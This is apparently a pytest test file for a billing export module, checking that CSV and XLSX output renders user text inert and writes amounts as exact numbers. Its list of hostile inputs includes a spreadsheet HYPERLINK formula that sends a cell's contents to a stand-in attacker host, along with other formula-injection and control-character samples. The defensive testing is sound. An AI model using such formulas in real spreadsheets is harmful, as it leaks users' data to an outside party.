"""The cells every export writes (billing.spreadsheets): any text inert and writable, numbers
numeric, in CSV and XLSX alike."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from billing.spreadsheets import FORMULA_START, append_row, csv_file, printable, safe_text

# What people have typed into names, descriptions and references, and how a file shows it.
HOSTILE = [
    ("ctl\u0001name", "ctl\ufffdname"),
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1", "'+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("-2+3", "'-2+3"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "\ufffdCR"),
    ("=1\x00", "'=1\ufffd"),
    ("\x1b[31mred", "\ufffd[31mred"),
    ("del\x7f c1\x85", "del\ufffd c1\ufffd"),
    ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ("not a character \uffff", "not a character \ufffd"),
    ("two\nlines", "two\nlines"),
    ("医疗数据 = 好", "医疗数据 = 好"),
    ("", ""),
]


@pytest.mark.parametrize("text, shown", HOSTILE)
def test_text_is_made_inert(text, shown):
    assert safe_text(text) == shown
    assert printable(text) == (shown[1:] if text.startswith(FORMULA_START) else shown)


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_writes_text_inert_and_numbers_as_numbers():
    texts = [text for text, _ in HOSTILE]
    amounts = [Decimal("-12.50"), Decimal("0.00"), Decimal("96.90"), -7, None]
    rows = _read_csv(csv_file([texts, amounts]))
    assert rows[0] == [shown for _, shown in HOSTILE]
    assert rows[1] == ["-12.50", "0.00", "96.90", "-7", ""]
    assert len(rows) == 2  # a carriage return never splits a row


def _sheet_of(rows):
    workbook = Workbook()
    for row in rows:
        append_row(workbook.active, row)
    out = io.BytesIO()
    workbook.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).active


def test_xlsx_writes_any_text_as_inert_strings_and_amounts_as_exact_numbers():
    sheet = _sheet_of([[text for text, _ in HOSTILE[:-1]],
                       [Decimal("-12.50"), Decimal("96.90"), -7, None, 2026]])
    texts, numbers = list(sheet.iter_rows())
    assert [cell.value for cell in texts] == [shown for _, shown in HOSTILE[:-1]]
    assert all(cell.data_type == "s" for cell in texts)
    assert [cell.value for cell in numbers[:5]] == [-12.5, 96.9, -7, None, 2026]
    assert all(cell.data_type == "n" for cell in numbers[:3])


def test_xlsx_keeps_an_amounts_exact_digits():
    workbook = Workbook()
    append_row(workbook.active, [Decimal("96.90"), Decimal("-0.10"), Decimal("1E+3")])
    out = io.BytesIO()
    workbook.save(out)
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read(
        "xl/worksheets/sheet1.xml").decode()
    assert "<v>96.90</v>" in sheet_xml and "<v>-0.10</v>" in sheet_xml
    assert "<v>1000</v>" in sheet_xml and "96.9000000" not in sheet_xml


def test_no_amount_that_is_not_a_number_is_written():
    with pytest.raises(ValueError):
        append_row(Workbook().active, [Decimal("NaN")])
